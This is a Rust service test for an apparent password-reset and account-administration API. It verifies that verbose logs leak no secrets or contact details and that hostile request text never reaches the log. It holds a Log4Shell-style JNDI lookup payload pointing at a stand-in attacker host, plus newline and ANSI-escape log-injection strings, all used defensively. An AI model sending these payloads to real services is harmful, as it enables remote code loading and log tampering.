//! Everything that the program prints at its most verbose.

use std::net::SocketAddr;

use serde_json::{Value, json};

use super::Secrets;
use crate::promises::durability::process::Process;
use crate::support::client::{Reply, Request};
use crate::support::folder::Folder;
use crate::support::service::{begin, complete, digits, verify, wrong};

const NEW: &str = "correct horse battery staple 1";
const NEWER: &str = "correct horse battery staple 2";
const NEWEST: &str = "correct horse battery staple 3";
const ADMINS: &str = "a password by an administrator";
const BAD_JSON: &str = "a password in a body that breaks";
const LOOKED_UP: &str = "${jndi:ldap://evil.example/x}";
/// The longest line of the log that is expected, in bytes.
const LONGEST_LINE: usize = 4096;

async fn reply_to(to: SocketAddr, request: Request, status: u16) -> Reply {
    request.send(to).await.expect(status)
}

async fn last(to: SocketAddr, destination: &str) -> Value {
    let target = format!("/_local/outbox?to={}", destination.replace('+', "%2B"));
    let messages = reply_to(to, Request::get(&target), 200).await.json();
    let codes = messages.as_array().unwrap().iter().rfind(|message| message["reference"] != "");
    codes.expect("a message with a code").clone()
}

async fn token(to: SocketAddr, body: Value, secrets: &mut Secrets) -> String {
    let token = reply_to(to, Request::post("/_local/tokens", &body), 200).await.text("accessToken");
    secrets.add("bearer token", &token);
    token.split('.').for_each(|part| secrets.add("part of a bearer token", part));
    token
}

/// A whole reset by one method, with a wrong guess, a refused password, and an idempotency key.
async fn reset(
    to: SocketAddr,
    method: &str,
    phone: Option<&str>,
    destination: &str,
    password: &str,
    secrets: &mut Secrets,
) {
    let key = format!("idempotency-key-of-{method}");
    secrets.add("idempotency key", &key);
    let begun = reply_to(to, begin("adele@contoso.example", method, phone).key(&key), 202).await.text("resetId");
    let message = last(to, destination).await;
    secrets.add_message(&message);
    let code = digits(&message);
    let bad = wrong(&code);
    secrets.add("wrong digits", &bad);
    reply_to(to, verify(&begun, &bad), 422).await;
    let token = reply_to(to, verify(&begun, &code).key(&key), 200).await.text("resetToken");
    secrets.add("reset token", &token);
    reply_to(to, verify(&begun, &code), 422).await;
    reply_to(to, complete(&begun, &token, "Pa55word"), 422).await;
    reply_to(to, complete(&begun, &format!("{token}x"), password), 422).await;
    reply_to(to, complete(&begun, &token, password).key(&key), 204).await;
    reply_to(to, complete(&begun, &token, password), 422).await;
    reply_to(to, Request::post("/_local/clock", &json!({"advanceSeconds": 31})), 200).await;
}

async fn registration(to: SocketAddr, bearer: &str, kind: &str, value: &str, destination: &str, secrets: &mut Secrets) {
    let wish = Request::post("/v1/registration/challenges", &json!({"type": kind, "value": value})).bearer(bearer);
    let id = reply_to(to, wish, 202).await.text("challengeId");
    let message = last(to, destination).await;
    secrets.add_message(&message);
    let target = format!("/v1/registration/challenges/{id}/verifications");
    let prove = |code: &str| Request::post(&target, &json!({"code": code})).bearer(bearer);
    reply_to(to, prove(&wrong(&digits(&message))), 422).await;
    reply_to(to, prove(&digits(&message)), 200).await;
}

/// Sends malformed bodies of every kind, each with a secret in it.
async fn broken_bodies(to: SocketAddr, admin: &str) {
    for text in [
        format!("{{\"resetToken\":\"x\",\"newPassword\":\"{BAD_JSON}\""),
        format!("{{\"resetToken\":\"x\",\"newPassword\":\"{BAD_JSON}\",\"newPassword\":\"{BAD_JSON}\"}}"),
        format!("{{\"resetToken\":7,\"newPassword\":[\"{BAD_JSON}\"]}}"),
        format!("{{\"{BAD_JSON}\":1}}"),
        format!("\"{BAD_JSON}\""),
    ] {
        for path in [
            "/v1/resets/AAAAAAAAAAAAAAAAAAAAAA/password",
            "/v1/resets",
            "/v1/credentials/verifications",
            "/graph/v1.0/users",
            "/v1/registration/challenges",
            "/v1/nothing",
        ] {
            let request = Request::new("POST", path).header("Content-Type", "application/json").bytes(text.as_bytes());
            let reply = request.clone().bearer(admin).send(to).await;
            assert!((400..500).contains(&reply.status), "{path} {}", reply.status);
            assert!(!String::from_utf8_lossy(&reply.body).contains(BAD_JSON), "{path} echoes its body");
            request.bearer(&format!("{BAD_JSON}.{BAD_JSON}")).send(to).await;
        }
    }
    let injected = format!("/v1/resets/{}", BAD_JSON.replace(' ', "%0A%1B[31m"));
    Request::get(&injected).header("User-Agent", BAD_JSON).header("Referer", BAD_JSON).send(to).await;
    // Texts that would break a line, steer a terminal, or be looked up by a logger, and one that is too long for a line.
    let hostile = format!("\n\u{1b}[31m{LOOKED_UP}");
    for name in [format!("{hostile}@contoso.example"), LOOKED_UP.repeat(40_000)] {
        let body = json!({"userName": name, "method": "email"});
        let request = Request::post("/v1/resets", &body).header("User-Agent", LOOKED_UP).key(LOOKED_UP);
        request.header("X-Forwarded-For", LOOKED_UP).header("Referer", LOOKED_UP).send(to).await;
    }
}

async fn administration(to: SocketAddr, admin: &str, secrets: &mut Secrets) {
    let user = json!({
        "userPrincipalName": "zoe@contoso.example", "passwordProfile": {"password": ADMINS},
        "mobilePhone": "+1 4255550177", "otherMails": ["zoe.zander@example.org"], "displayName": "Zoe Zander",
    });
    reply_to(to, Request::post("/graph/v1.0/users", &user).bearer(admin), 201).await;
    let target = "/graph/v1.0/users/zoe@contoso.example";
    let change = json!({"mobilePhone": "+1 4255550178", "businessPhones": ["+1 4255550179X123"]});
    reply_to(to, Request::new("PATCH", target).json(&change).bearer(admin), 204).await;
    let password = json!({"passwordProfile": {"password": format!("{ADMINS} again")}});
    reply_to(to, Request::new("PATCH", target).json(&password).bearer(admin), 204).await;
    for refused in [json!({"mobilePhone": "+1 900 5550177"}), json!({"otherMails": ["zoe.zander@@example.org"]})] {
        reply_to(to, Request::new("PATCH", target).json(&refused).bearer(admin), 400).await;
    }
    reply_to(to, Request::get(target).bearer(admin), 200).await;
    secrets.add("an administrator's password", ADMINS);
    for (password, status) in [(ADMINS, 422), ("another wrong password", 422)] {
        let check = json!({"userName": "zoe@contoso.example", "password": password});
        reply_to(to, Request::post("/v1/credentials/verifications", &check).bearer(admin), status).await;
        secrets.add("a wrong password", password);
    }
}

#[service_test]
async fn no_output_holds_a_secret_or_a_whole_contact_even_at_trace_level() {
    for log in [
        "trace",
        "hyper=trace,aws_smithy_runtime=trace,aws_smithy_runtime_api=trace,dynoxide=trace,local=trace,shared=trace,aws=trace",
    ] {
        let environment = [("RUST_LOG", log), ("RUST_BACKTRACE", "full")];
        let directory = Folder::new("secrecy");
        let process = Process::start(&directory, &[], &environment);
        let to = process.address();
        let mut secrets = Secrets::default();
        for password in [NEW, NEWER, NEWEST, "Pa55word", "adele-old-password-2026", BAD_JSON] {
            secrets.add("password", password);
        }
        let phones = ["4255550100", "4255550111", "4255550155", "4255550177", "4255550178", "4255550179"];
        phones.into_iter().for_each(|phone| secrets.add("phone number", phone));
        for mail in ["adele.vance", "adele.home", "zoe.zander"] {
            secrets.add("mail address", mail);
        }

        let permissions = [
            "User.ReadWrite.All",
            "UserAuthenticationMethod.ReadWrite.All",
            "Credentials.Check",
            "RoleManagement.ReadWrite.Directory",
            "OnPremDirectorySynchronization.ReadWrite.All",
        ];
        let admin = token(to, json!({"permissions": permissions}), &mut secrets).await;
        reset(to, "mobileSms", Some("+1 4255550100"), "+14255550100", NEW, &mut secrets).await;
        reset(to, "officeCall", Some("+1 4255550111"), "+14255550111", NEWER, &mut secrets).await;
        reset(to, "email", None, "adele.vance@example.org", NEWEST, &mut secrets).await;
        let adele = token(to, json!({"userName": "adele@contoso.example"}), &mut secrets).await;
        registration(to, &adele, "mobilePhone", "+1 4255550155", "+14255550155", &mut secrets).await;
        registration(to, &adele, "email", "adele.home@example.org", "adele.home@example.org", &mut secrets).await;
        reply_to(to, Request::get("/v1/registration").bearer(&adele), 200).await;
        administration(to, &admin, &mut secrets).await;
        broken_bodies(to, &admin).await;

        let keys: Value = serde_json::from_slice(&std::fs::read(directory.join("keys.json")).unwrap()).unwrap();
        let keys = keys.as_object().unwrap();
        assert_eq!(keys.len(), 8, "seven keys and their digest");
        for key in keys.values() {
            secrets.add("key", key.as_str().unwrap());
        }
        let (out, error) = process.kill();
        assert_eq!(secrets.found_in(&out), [""; 0]);
        let lines = error.lines().filter(|line| line.contains("/v1/resets/{resetId}/password")).count();
        assert!(lines >= 3, "requests are logged by their routes: {error}");
        // At the start the program shows the sample people, whom everybody can read in its sources. No line of the log
        // begins so: each begins with its time.
        let hint = |line: &&str| line.starts_with("person  ") && line.contains("-old-password-2026");
        assert!(error.lines().filter(hint).count() <= 8);
        let found: Vec<(&str, &str)> = error
            .lines()
            .filter(|line| !hint(line))
            .flat_map(|line| secrets.found_in(line).into_iter().map(move |what| (what, line)))
            .collect();
        assert_eq!(found, [], "with {log}");
        assert!(!error.contains('\u{1b}'), "no control character of a request reaches the log");
        assert!(!error.contains("jndi"), "nor does a text that a logger would look up");
        assert!(error.lines().all(|line| line.len() <= LONGEST_LINE), "no line grows with a request");
    }
}
